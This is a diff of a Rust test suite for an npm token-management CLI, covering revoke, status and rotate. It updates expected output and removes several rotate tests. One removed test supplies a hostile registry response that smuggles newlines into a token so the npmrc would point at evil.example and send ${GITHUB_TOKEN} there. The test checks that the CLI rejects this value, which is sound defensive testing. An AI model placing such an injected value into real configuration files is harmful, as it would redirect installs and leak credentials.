@@ -2,11 +2,11 @@
 //! use, `status` and `rotate` (the issue "Token hygiene").
 
 use serde_json::{json, Value};
-use wiremock::matchers::{body_partial_json, header, method, path};
+use wiremock::matchers::{header, method, path};
 use wiremock::{Mock, ResponseTemplate};
 
 use super::npmjs::{npmjs, PUBLISH_KEY, PUBLISH_TOKEN, TOKENS};
-use super::{created, otp_challenge, Fake};
+use super::{otp_challenge, Fake};
 use crate::support::BIN;
 
 const READER_KEY: &str = "0b3f2c11-9a8b-4c7d-8e6f-5a4b3c2d1e0f";
@@ -14,7 +14,7 @@ const OLD_KEY: &str = "7c0ffee0-1111-4222-8333-944455556666";
 const GONE_KEY: &str = "9e9e9e9e-1111-4222-8333-944455556666";
 
 /// The fake npmjs, authenticating with the full token of its `publish` GAT.
-async fn as_publish() -> Fake {
+pub(super) async fn as_publish() -> Fake {
     let fake = npmjs().await;
     let port = fake.server.address().port();
     fake.configure(&format!("//127.0.0.1:{port}/:_authToken={PUBLISH_TOKEN}\n"));
@@ -107,19 +107,23 @@ async fn bulk_revoke_shows_asks_and_never_takes_the_token_in_use() {
     assert_eq!(run.code, 1, "{run:?}");
     assert!(
         run.stderr.contains(
-            "Revoking 2 tokens:\n  7c0ffe  old   expired 12 days ago\n  9e9e9e  gone  revoked\n"
+            "2 tokens will be revoked:\n  7c0ffe  old   expired 12 days ago\n  9e9e9e  gone  revoked\n"
         ),
         "{run:?}"
     );
     assert!(run.stderr.ends_with("npm-token error not revoking 2 tokens without confirmation, and there is no terminal to ask: pass --yes (-y) to revoke them, or --dry-run to only list them\n"), "{run:?}");
     assert!(fake.deletes().await.is_empty());
 
-    // --dry-run: the plan is the output.
+    // --dry-run: the plan is the output, in the real run's shape, nothing revoked.
     let run = fake
         .run(&["revoke", "--unused-for", "1", "--dry-run", "--json"])
         .await;
     assert_eq!(run.code, 0, "{run:?}");
-    let plan: Vec<Value> = serde_json::from_str(&run.stdout).unwrap();
+    let report: Value = serde_json::from_str(&run.stdout).unwrap();
+    assert_eq!(report["dry_run"], true);
+    assert_eq!(report["revoked"], json!([]));
+    assert_eq!(report["failed"], json!([]));
+    let plan = report["planned"].as_array().unwrap();
     let keys: Vec<&str> = plan.iter().map(|t| t["key"].as_str().unwrap()).collect();
     // `publish` was last used 3 days ago; it would not match anyway. `reader` was never used.
     assert_eq!(keys, [READER_KEY, OLD_KEY, GONE_KEY], "{run:?}");
@@ -161,10 +165,11 @@ async fn bulk_revoke_asks_on_a_terminal() {
             "n\r".into(),
         )
         .await;
-    assert_eq!(no.code, 1, "{no:?}");
-    assert!(no.stdout.contains("Revoke 2 tokens? [y/N] n"), "{no:?}");
+    assert_eq!(no.code, 2, "{no:?}");
+    assert!(no.stdout.contains("2 tokens will be revoked:\n"), "{no:?}");
+    assert!(no.stdout.contains("Revoke them? [y/N] n"), "{no:?}");
     assert!(
-        no.stdout.contains("nothing was revoked: not confirmed"),
+        no.stdout.ends_with("\nCancelled; nothing was revoked.\n"),
         "{no:?}"
     );
     assert!(fake.deletes().await.is_empty());
@@ -195,9 +200,17 @@ async fn status_names_the_user_and_the_token_and_fails_before_it_expires() {
     let run = fake.run(&["status"]).await;
     assert_eq!(run.code, 0, "{run:?}");
     let registry = fake.url("/");
-    assert!(run.stdout.starts_with(&format!(
-        "registry  {registry}\nuser      alice\ntoken     d83cf1 publish (npm_NYn6...jCq0)\naccess    packages: write, orgs: read\n"
-    )), "{run:?}");
+    let npmrc = fake.sandbox.npmrc();
+    assert!(
+        run.stdout.starts_with(&format!(
+            "registry  {registry}\nuser      alice\ntoken     d83cf1 publish (npm_NYn6...jCq0)\n\
+         from      //127.0.0.1:{port}/:_authToken in {npmrc}:5\n\
+         access    packages: write, orgs: read; bypasses 2FA\n",
+            port = fake.server.address().port(),
+            npmrc = npmrc.display()
+        )),
+        "{run:?}"
+    );
     assert!(run.stdout.contains("\nexpires   20"), "{run:?}");
     assert!(
         run.stdout
@@ -211,6 +224,7 @@ async fn status_names_the_user_and_the_token_and_fails_before_it_expires() {
     assert_eq!(status["token"]["key"], PUBLISH_KEY);
     assert_eq!(status["token"]["expires_in_days"], 400);
     assert_eq!(status["token"]["status"], "active");
+    assert_eq!(status["credential"], "token");
 
     let ok = fake.run(&["status", "--fail-within", "30"]).await;
     assert_eq!(ok.code, 0, "{ok:?}");
@@ -243,151 +257,6 @@ async fn status_names_the_user_and_the_token_and_fails_before_it_expires() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn rotate_copies_the_old_token_creates_first_then_revokes() {
-    let fake = npmjs().await;
-    Mock::given(method("POST"))
-        .and(path(TOKENS))
-        .and(body_partial_json(json!({
-            "name": "publish", "description": "CI publish", "password": "pw-123456",
-            "packages": ["@acme/a", "@acme/b"], "scopes": ["@tools"], "orgs": ["acme"],
-            "packages_and_scopes_permission": "read-write", "orgs_permission": "read-only",
-            "cidr_whitelist": ["192.0.2.0/24", "198.51.100.0/24"], "bypass_2fa": true,
-            "expires": 30,
-        })))
-        .respond_with(created())
-        .expect(1)
-        .mount(&fake.server)
-        .await;
-    Mock::given(method("DELETE"))
-        .and(path(format!("{TOKENS}/token/{PUBLISH_KEY}")))
-        .respond_with(ResponseTemplate::new(204))
-        .expect(1)
-        .mount(&fake.server)
-        .await;
-    // The old lifetime (a year and more) overridden by a flag.
-    let run = fake
-        .run(&[
-            "rotate",
-            "d83cf1",
-            "--password",
-            "pw-123456",
-            "--expires",
-            "30",
-        ])
-        .await;
-    assert_eq!(run.code, 0, "{run:?}");
-    assert!(
-        run.stdout.starts_with("Created token npm_NEWTOKEN"),
-        "{run:?}"
-    );
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn rotate_says_what_exists_when_a_step_fails() {
-    // The create fails: nothing is revoked.
-    let fake = npmjs().await;
-    Mock::given(method("POST"))
-        .respond_with(ResponseTemplate::new(401).set_body_json(json!({"error": "bad password"})))
-        .mount(&fake.server)
-        .await;
-    let run = fake
-        .run(&["rotate", "d83cf1", "--password", "nope-nope"])
-        .await;
-    assert_eq!(run.code, 1, "{run:?}");
-    assert!(fake.deletes().await.is_empty());
-
-    // The revoke fails: the new token is the output, and the error says the old one works.
-    let fake = npmjs().await;
-    Mock::given(method("POST"))
-        .respond_with(created())
-        .mount(&fake.server)
-        .await;
-    Mock::given(method("DELETE"))
-        .respond_with(ResponseTemplate::new(500))
-        .mount(&fake.server)
-        .await;
-    let run = fake
-        .run(&["rotate", "d83cf1", "--password", "pw-123456", "--json"])
-        .await;
-    assert_eq!(run.code, 1, "{run:?}");
-    // stdout is one JSON document, the new token (`| jq -er .token` gets it); the error is
-    // on stderr only.
-    let answer: Value = serde_json::from_str(&run.stdout).expect("one JSON document");
-    assert_eq!(answer["token"], "npm_NEWTOKEN", "{run:?}");
-    assert!(run.stderr.contains("the new token was created (above), but d83cf1 (publish) still works: it could not be revoked"), "{run:?}");
-
-    // --keep-old: no DELETE at all.
-    let fake = npmjs().await;
-    Mock::given(method("POST"))
-        .respond_with(created())
-        .mount(&fake.server)
-        .await;
-    let run = fake
-        .run(&["rotate", "d83cf1", "--password", "pw-123456", "--keep-old"])
-        .await;
-    assert_eq!(run.code, 0, "{run:?}");
-    assert!(fake.deletes().await.is_empty());
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn rotate_save_writes_only_the_token_in_use_into_its_npmrc() {
-    // Not the token in use: refused before anything is created.
-    let fake = as_publish().await;
-    let run = fake
-        .run(&["rotate", "0b3f2c", "--password", "pw-123456", "--save"])
-        .await;
-    assert_eq!(run.code, 1, "{run:?}");
-    assert!(
-        run.stderr
-            .contains("0b3f2c (reader) is not the token in use"),
-        "{run:?}"
-    );
-    assert!(run.stderr.ends_with("nothing was created\n"), "{run:?}");
-
-    // The token in use: the new token replaces it in the npmrc, nothing else changes.
-    Mock::given(method("POST"))
-        .respond_with(created())
-        .expect(1)
-        .mount(&fake.server)
-        .await;
-    fake.accepts_deletes().await;
-    let before = std::fs::read_to_string(fake.sandbox.npmrc()).unwrap();
-    let run = fake
-        .run(&["rotate", PUBLISH_TOKEN, "--password", "pw-123456", "--save"])
-        .await;
-    assert_eq!(run.code, 0, "{run:?}");
-    let after = std::fs::read_to_string(fake.sandbox.npmrc()).unwrap();
-    assert_eq!(after, before.replace(PUBLISH_TOKEN, "npm_NEWTOKEN"));
-    #[cfg(unix)]
-    {
-        use std::os::unix::fs::PermissionsExt;
-        let mode = std::fs::metadata(fake.sandbox.npmrc())
-            .unwrap()
-            .permissions()
-            .mode();
-        assert_eq!(mode & 0o777, 0o600);
-    }
-    assert_eq!(fake.deletes().await, [PUBLISH_KEY]);
-
-    // From the environment: refused, nothing created.
-    let fake = as_publish().await;
-    let port = fake.server.address().port();
-    let mut cmd = fake.cmd();
-    cmd.args(["rotate", "d83cf1", "--password", "pw", "--save"])
-        .env(
-            format!("npm_config_//127.0.0.1:{port}/:_authToken"),
-            PUBLISH_TOKEN,
-        );
-    let run = crate::support::Run::of_async(cmd).await;
-    assert_eq!(run.code, 1, "{run:?}");
-    assert!(
-        run.stderr
-            .contains("comes from the environment, not an npmrc file"),
-        "{run:?}"
-    );
-}
-
-#[tokio::test(flavor = "multi_thread")]
 async fn a_one_time_password_is_asked_once_for_many_deletes() {
     let fake = as_publish().await;
     Mock::given(method("DELETE"))
@@ -415,101 +284,9 @@ async fn a_one_time_password_is_asked_once_for_many_deletes() {
 
 /// `--read-only` means read-only on npmjs.org too: the old token's copied `read-write`
 /// permission gives way.
-#[tokio::test(flavor = "multi_thread")]
-async fn rotate_read_only_makes_a_read_only_successor() {
-    let fake = npmjs().await;
-    Mock::given(method("POST"))
-        .and(path(TOKENS))
-        .and(body_partial_json(json!({
-            "readonly": true,
-            "packages_and_scopes_permission": "read-only",
-            "orgs_permission": "read-only",
-        })))
-        .respond_with(created())
-        .expect(1)
-        .mount(&fake.server)
-        .await;
-    fake.accepts_deletes().await;
-    let run = fake
-        .run(&["rotate", "d83cf1", "--password", "pw-123456", "--read-only"])
-        .await;
-    assert_eq!(run.code, 0, "{run:?}");
-}
-
 /// What the registry answers is hostile: a "token" that would add lines to the npmrc is not
 /// written, and the old token is kept; and the new token, once shown, is masked in errors.
-#[tokio::test(flavor = "multi_thread")]
-async fn rotate_save_writes_only_a_plain_token_and_masks_it_after() {
-    let fake = as_publish().await;
-    let hostile =
-        "npm_NEW\nregistry=http://evil.example/\n//evil.example/:_authToken=${GITHUB_TOKEN}";
-    Mock::given(method("POST"))
-        .respond_with(ResponseTemplate::new(201).set_body_json(json!({"token": hostile})))
-        .mount(&fake.server)
-        .await;
-    fake.accepts_deletes().await;
-    let before = std::fs::read_to_string(fake.sandbox.npmrc()).unwrap();
-    let run = fake
-        .run(&["rotate", "d83cf1", "--password", "pw-123456", "--save"])
-        .await;
-    assert_eq!(run.code, 1, "{run:?}");
-    assert!(run.stderr.contains("was not revoked"), "{run:?}");
-    assert_eq!(
-        std::fs::read_to_string(fake.sandbox.npmrc()).unwrap(),
-        before
-    );
-    assert!(fake.deletes().await.is_empty());
-
-    // The revoke fails with a body that quotes the new token: stderr masks it.
-    let fake = npmjs().await;
-    Mock::given(method("POST"))
-        .respond_with(created())
-        .mount(&fake.server)
-        .await;
-    Mock::given(method("DELETE"))
-        .respond_with(
-            ResponseTemplate::new(500)
-                .set_body_json(json!({"error": "cannot revoke while npm_NEWTOKEN exists"})),
-        )
-        .mount(&fake.server)
-        .await;
-    let run = fake
-        .run(&["rotate", "d83cf1", "--password", "pw-123456"])
-        .await;
-    assert_eq!(run.code, 1, "{run:?}");
-    assert!(
-        run.stdout.contains("npm_NEWTOKEN"),
-        "the output shows it once: {run:?}"
-    );
-    assert!(!run.stderr.contains("npm_NEWTOKEN"), "{run:?}");
-}
-
 /// `--save` of a token that comes from `${NPM_TOKEN}` is refused before anything is created.
-#[tokio::test(flavor = "multi_thread")]
-async fn rotate_save_of_an_environment_reference_is_refused_first() {
-    let fake = npmjs().await;
-    let port = fake.server.address().port();
-    fake.configure(&format!("//127.0.0.1:{port}/:_authToken=${{NPM_TOKEN}}\n"));
-    let mut cmd = fake.cmd();
-    cmd.args(["rotate", "d83cf1", "--password", "pw-123456", "--save"])
-        .env("NPM_TOKEN", PUBLISH_TOKEN);
-    let run = crate::support::Run::of_async(cmd).await;
-    assert_eq!(run.code, 1, "{run:?}");
-    assert!(
-        run.stderr.contains("refers to an environment variable"),
-        "{run:?}"
-    );
-    let posts = fake
-        .server
-        .received_requests()
-        .await
-        .unwrap()
-        .iter()
-        .filter(|r| r.method.as_str() == "POST")
-        .count();
-    assert_eq!(posts, 0, "nothing was created");
-}
-
 /// When several listed tokens share the mask of the token in use, a filter spares them all.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_filter_spares_every_token_that_could_be_the_one_in_use() {
